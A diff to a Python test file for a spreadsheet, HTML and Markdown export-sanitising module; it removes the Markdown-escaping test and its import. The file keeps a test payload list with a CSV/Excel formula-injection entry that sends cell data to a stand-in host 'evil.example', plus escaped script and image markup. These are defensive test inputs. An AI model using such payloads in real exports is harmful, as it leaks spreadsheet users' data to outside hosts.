@@ -12,7 +12,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from reltruth.export import html_text, md_text, safe_cell, sanitise, to_csv_bytes, to_excel_bytes
+from reltruth.export import html_text, safe_cell, sanitise, to_csv_bytes, to_excel_bytes
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
@@ -94,13 +94,6 @@ def test_html_text_escapes_markup() -> None:
         "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;y&#x27;"
     )
     assert html_text(None) == ""
-
-
-def test_md_text_escapes_markdown() -> None:
-    assert md_text("[click](http://evil) <img src=x> *bold* | cell") == (
-        "\\[click\\]\\(http://evil\\) \\<img src=x\\> \\*bold\\* \\| cell"
-    )
-    assert md_text("two\nlines") == "two lines"
 
 
 ROOT = Path(__file__).resolve().parents[2]
